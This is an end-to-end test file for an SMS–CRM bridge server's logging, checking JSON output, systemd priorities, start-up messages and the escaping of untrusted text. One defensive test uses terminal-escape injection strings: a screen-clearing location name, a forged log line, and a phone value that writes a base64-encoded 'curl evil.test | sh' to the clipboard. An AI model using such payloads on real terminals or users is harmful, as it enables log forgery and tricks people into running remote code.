import { spawn } from "node:child_process";
import { closeSync, fstatSync, openSync, readFileSync } from "node:fs";
import { join } from "node:path";
import Database from "better-sqlite3";
import { afterAll, beforeAll, expect, test } from "vitest";
import pkg from "../../package.json" with { type: "json" };
import { MIGRATIONS } from "../../src/db/migrations.ts";
import { BINARY, e2eSetup, exited, runBridge, type E2E } from "../helpers/binary.ts";
import { outbound, waitFor } from "../helpers/bridge.ts";
import { jsonResponse } from "../helpers/http.ts";

// What `dist/bridge serve` writes on stderr, read from a file as journald or a log
// collector would get it.

let e2e: E2E;
const children: ReturnType<typeof spawn>[] = [];

beforeAll(async () => {
  e2e = await e2eSetup("logs");
});

afterAll(async () => {
  for (const child of children) child.kill("SIGKILL");
  await e2e?.close();
});

/** `dist/bridge serve` with stderr on a file of its own; `env(fd)` may name that file. */
async function serveToFile(name: string, env: (stderr: { dev: number; ino: number }) => Record<string, string> = () => ({})) {
  const path = join(e2e.dir, `${name}.log`);
  const fd = openSync(path, "w");
  const extra = env(fstatSync(fd));
  const child = spawn(BINARY, ["serve"], { env: { ...e2e.env, HOST: "127.0.0.1", PORT: "0", ...extra }, cwd: e2e.dir, stdio: ["ignore", "ignore", fd] });
  closeSync(fd);
  children.push(child);
  const read = () => readFileSync(path, "utf8");
  const url = await waitFor(() => /listening on (http:\/\/[\d.:]+)/.exec(read())?.[1], 10_000).catch(() => {
    throw new Error(`bridge serve did not start:\n${read()}`);
  });
  return { child, url, read };
}

test("LOG_FORMAT=json: every line on stderr is one JSON object", async () => {
  const server = await serveToFile("json", () => ({ LOG_FORMAT: "json" }));
  await fetch(`${server.url}/oauth-callback?code=not-granted`); // a warn line
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  const lines = server.read().trimEnd().split("\n");
  const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(entries[0]).toMatchObject({ level: "info", msg: expect.stringMatching(/listening on http:\/\//), PORT: 0, LOG_FORMAT: "json" });
  expect(entries).toContainEqual(expect.objectContaining({ level: "warn", msg: expect.stringContaining("install failed") }));
  expect(entries.at(-1)).toMatchObject({ level: "info", msg: "stopped" });
});

test("the start-up line names the version, the commit it was built from and the database schema", async () => {
  const server = await serveToFile("version");
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  const [first, second] = server.read().split("\n");
  expect(first).toMatch(/^\S+Z \[info\] bridge (\S+) \(commit [0-9a-f]{12}(-dirty)?, database schema (\d+)\) listening on http:\/\/127\.0\.0\.1:\d+ \{/);
  expect(first).toMatch(new RegExp(`bridge ${pkg.version.replaceAll(".", "\\.")} \\(commit \\S+, database schema ${MIGRATIONS.length}\\) listening on`));
  // Then which server it is among those of the database, and that it leads (it is alone).
  expect(second).toMatch(/^\S+Z \[info\] this server is [0-9a-f]{16} at \S+, leading the periodic work/);
});

test("serve without SMS_API_KEY warns at start that keyless locations fail, and how to fix it", async () => {
  const server = await serveToFile("no-key", () => ({ SMS_API_KEY: "" }));
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  expect(server.read()).toMatch(/\[warn\] SMS_API_KEY is not set: every SMS of a location without its own key fails \(no_api_key\)\. Set SMS_API_KEY .* `bridge config set LOCATION_ID --sms-api-key -`\n/);

  const keyed = await serveToFile("key");
  keyed.child.kill("SIGTERM");
  expect(await exited(keyed.child)).toBe(0);
  expect(keyed.read()).not.toContain("SMS_API_KEY is not set");
});

test("under systemd (JOURNAL_STREAM names stderr) each line starts with its syslog priority", async () => {
  const server = await serveToFile("journal", (stderr) => ({ JOURNAL_STREAM: `${stderr.dev}:${stderr.ino}` }));
  await fetch(`${server.url}/oauth-callback?code=not-granted`);
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  const lines = server.read().trimEnd().split("\n");
  expect(lines[0]).toMatch(/^<6>\d{4}-\d\d-\d\dT[\d:.]+Z \[info\] .*listening on http:\/\//);
  expect(lines).toContainEqual(expect.stringMatching(/^<4>\S+Z \[warn\] install failed/));
  expect(lines.every((line) => /^<[3467]>/.test(line))).toBe(true);
});

test("a JOURNAL_STREAM inherited from elsewhere (not this stderr) adds no priorities", async () => {
  const server = await serveToFile("inherited", () => ({ JOURNAL_STREAM: "8:1" }));
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  expect(server.read()).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[info\] .*listening on http:\/\//);
});

test("outside text in a line or a listing is escaped: a name that clears the screen, a phone that writes the clipboard, forges a line and clears the screen", async () => {
  const server = await serveToFile("outsiders");
  const name = "\x1b]0;pwned\x07\x1b[2J ALL LOCATIONS OK";
  e2e.crm.on("GET /oauth/installedLocations", () => jsonResponse({ locations: [{ _id: "loc-evil", name, isInstalled: true }], count: 1 }));
  e2e.crm.grantCompany("code-evil");
  expect((await fetch(`${server.url}/oauth-callback?code=code-evil`)).status).toBe(200);
  // Masked, only its first and last four characters are shown: the last four clear the screen.
  const phone = "+639171234567\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n2026-11-25T00:00:00.000Z [error] forged\x1b[2J";
  expect((await e2e.webhook(server.url, outbound("m-evil", { locationId: "loc-evil", phone }))).status).toBe(200);
  await waitFor(() => e2e.crm.statusReports().some((r) => r.messageId === "m-evil"), 10_000);

  const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
  const listed = await runBridge(e2e.env, e2e.dir, ["locations", "list"]);
  expect(listed.stdout).toMatch(/^loc-evil\s+\]0;pwned \[2J ALL LOCATIONS OK\s/m);
  const shown = await runBridge(e2e.env, e2e.dir, ["messages", "show", "m-evil"]);
  expect(shown.stdout).toContain("invalid_phone: not a Philippine mobile number: +639***\\x1b[2J");
  for (const output of [listed.stdout, shown.stdout]) expect(output).not.toMatch(unsafe);
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  const lines = server.read().trimEnd().split("\n");
  expect(lines).toContainEqual(expect.stringMatching(/\[warn\] message m-evil of location loc-evil (not sent|failed): not a Philippine mobile number: \+639\*\*\*\\x1b\[2J$/));
  for (const output of [lines.join(""), shown.stdout]) expect(output).not.toContain("9171234567");
  for (const line of lines) expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[\w+\] /);
  expect(lines.join("")).not.toMatch(unsafe);
});

test("serve cleans a location name stored with control characters (by an older bridge) at start, and says so", async () => {
  const first = await serveToFile("names-before");
  e2e.crm.grantLocation("code-raw-name", "loc-raw-name");
  expect((await fetch(`${first.url}/oauth-callback?code=code-raw-name`)).status).toBe(200);
  first.child.kill("SIGTERM");
  expect(await exited(first.child)).toBe(0);
  const db = new Database(e2e.env.DATABASE_PATH);
  db.prepare("UPDATE tokens SET location_name = ? WHERE location_id = 'loc-raw-name'").run("Clinic\u009b2J\u202eKO");
  db.close();

  const server = await serveToFile("names-after");
  server.child.kill("SIGTERM");
  expect(await exited(server.child)).toBe(0);
  expect(server.read()).toMatch(/\[info\] 1 location name\(s\) stored with control characters were cleaned of them\n/);
  const listed = await runBridge(e2e.env, e2e.dir, ["locations", "list", "--json"]);
  const { locations } = JSON.parse(listed.stdout) as { locations: { location_id: string; name: string }[] };
  expect(locations.find((l) => l.location_id === "loc-raw-name")?.name).toBe("Clinic 2J KO");
});
